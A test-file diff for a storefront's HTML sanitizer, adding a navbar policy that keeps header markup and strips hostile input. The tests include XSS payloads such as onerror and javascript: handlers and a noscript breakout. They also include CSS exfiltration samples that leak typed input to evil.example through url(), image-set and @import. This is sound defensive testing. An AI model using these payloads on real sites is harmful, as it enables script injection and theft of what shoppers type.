@@ -8,7 +8,7 @@ import { eq } from 'drizzle-orm';
 import sanitize from 'sanitize-html';
 import { PAGE_DATA_ELEMENT_ID, pageDataResponseSchema } from '@storefront/shared/contracts';
 import { pages } from '../src/db/schema';
-import { sanitizeHtml } from '../src/site/sanitizeHtml';
+import { sanitizeHtml, sanitizeNavbarHtml } from '../src/site/sanitizeHtml';
 import { startTestServer, type TestServer } from './helpers/testServer';
 import { visitor, WEB_URL } from './helpers/visitors';
 
@@ -172,5 +172,40 @@ describe('the policy', () => {
     expect(sanitizeHtml('<img srcset="javascript:alert(1) 1x, /a.png 2x" src="  java\tscript:alert(1)">')).toBe('<img srcset="/a.png 2x" />');
     expect(sanitizeHtml('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>After')).toBe('After');
     expect(sanitizeHtml('<math><mi xlink:href="javascript:alert(1)">x</mi></math><template><img src=x onerror=alert(1)></template>')).toBe('');
+  });
+});
+
+describe('the custom navbar policy', () => {
+  it('keeps what a header needs besides content: its buttons, its stylesheet and the placeholders the shell fills', () => {
+    const html = [
+      '<style>.bar { display: flex; background: var(--sf-color-primary); } .bar > a { color: inherit; }</style>',
+      '<header class="bar"><a href="/">Shop</a><button type="button" class="pincode-btn">Deliver to</button><div id="search-btn"></div>',
+      '<div id="account-btn-desktop"></div><div id="account-btn-mobile"></div><button type="button" class="cart-btn">Cart</button></header>',
+      '<nav aria-label="Quick links"><div id="bottom-menu"></div></nav>',
+    ].join('');
+    expect(sanitizeNavbarHtml(html)).toBe(html);
+  });
+
+  it('drops every hostile sample, scripts and handlers on its buttons too, and a stylesheet cannot close over markup', () => {
+    for (const hostile of HOSTILE) expect([hostile, sanitizeNavbarHtml(hostile)]).toEqual([hostile, expect.not.stringMatching(MARKERS)]);
+    expect(sanitizeNavbarHtml('<button class="cart-btn" onclick="alert(1)" formaction="javascript:alert(1)">Cart</button>')).toBe(
+      '<button class="cart-btn">Cart</button>',
+    );
+    expect(sanitizeNavbarHtml('<style>a{}</style><script>alert(1)</script><style></style><img src=x onerror=alert(1)>')).toBe(
+      '<style>a{}</style><style></style><img src="x" />',
+    );
+    expect(sanitizeNavbarHtml('<form action="/s/api/auth/logout"><input name="q"></form>')).toBe('');
+  });
+
+  it('removes a stylesheet that could send what a shopper types elsewhere', () => {
+    for (const css of [
+      'input[value^="1"] { background: url(https://evil.example/?c=1) }',
+      'input[value^="1"] { background: URL ( "//evil.example/1" ) }',
+      '@import "https://evil.example/steal.css";',
+      '.a { background: image-set("https://evil.example/a.png" 1x) }',
+      '.a { background: u\\72 l(https://evil.example/a.png) }',
+    ]) {
+      expect(sanitizeNavbarHtml(`<style>${css}</style><p>Kept</p>`)).toBe('<p>Kept</p>');
+    }
   });
 });
